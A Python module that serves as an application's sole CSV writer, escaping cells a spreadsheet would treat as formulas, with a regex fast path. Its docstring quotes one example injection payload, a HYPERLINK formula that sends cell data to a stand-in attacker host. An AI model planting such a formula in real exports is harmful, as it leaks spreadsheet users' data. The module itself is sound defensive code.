"""The one CSV writer of the app: every CSV file it writes goes through ``csv_text``, so none can carry a formula.

A spreadsheet treats a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return as a formula
(OWASP "CSV injection"): a service renamed ``=HYPERLINK("http://evil.example/?d="&A2,"Help")`` would run in
an evaluator's spreadsheet. Such a text cell is written with a leading apostrophe, which spreadsheets show
as text and do not evaluate. Numbers given as numbers (``int``/``float``) are not text and stay numbers, so
a negative change such as ``-2`` remains the number the file's Table Schema promises; a number that arrives
as text is treated like any other text.
"""

from __future__ import annotations

import csv
import io
import operator
import re
from collections.abc import Iterable, Mapping, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: object) -> object:
    """A cell as it may go into a CSV file: text that a spreadsheet would read as a formula gets an apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(header: Sequence[str], rows: Iterable[Sequence[object] | Mapping[str, object]]) -> str:
    """A CSV file as RFC 4180 has it (CRLF line ends, so a cell holding a carriage return or a newline is
    quoted): the header, then each row (a sequence, or a mapping by column).

    Every text cell, header included, is passed through ``neutralise``.
    """
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([neutralise(name) for name in header])
    rows = list(rows)
    cells = _cells(header, rows)
    body = io.StringIO()
    csv.writer(body, lineterminator="\r\n").writerows(cells)
    written = body.getvalue()
    if _CELL_STARTING_A_FORMULA.search(written) or _CELL_STARTING_A_FORMULA.match("\n" + written[:2]):
        # Some cell may need neutralising (or is a negative number, which must not be): cell by cell.
        for row in cells:
            writer.writerow([neutralise(cell) for cell in row])
    else:
        # No cell starts with any of FORMULA_STARTS, so neutralise would change none of them.
        out.write(written)
    return out.getvalue()


# The start of a cell in written CSV (after a comma or a line end; the file's first cell is looked at after a
# "\n" put before it) followed by a character of FORMULA_STARTS: unquoted, or inside the quotes of a quoted cell
# (the csv module quotes any cell holding a carriage return, so an unquoted one is the end of a line). A match
# inside a quoted cell only means a needless look at that file cell by cell. Written without an alternative for
# the file's start, which makes the search three times slower.
_CELL_STARTING_A_FORMULA = re.compile(r'[,\n](?:[=+\-@\t]|"[=+\-@\t\r])')


def _cells(header: Sequence[str], rows: list) -> list:
    """Each row's cells in the header's order (a mapping without one of the columns gives an empty cell)."""
    if header and rows and all(isinstance(row, Mapping) for row in rows):
        pick = operator.itemgetter(*header)
        try:
            picked = [pick(row) for row in rows]
        except KeyError:
            pass  # a row without one of the columns: each cell looked up on its own, below
        else:
            return picked if len(header) > 1 else [(cell,) for cell in picked]
    return [
        [row.get(name, "") for name in header]
        if isinstance(row, Mapping)
        else (row if isinstance(row, list | tuple) else list(row))
        for row in rows
    ]
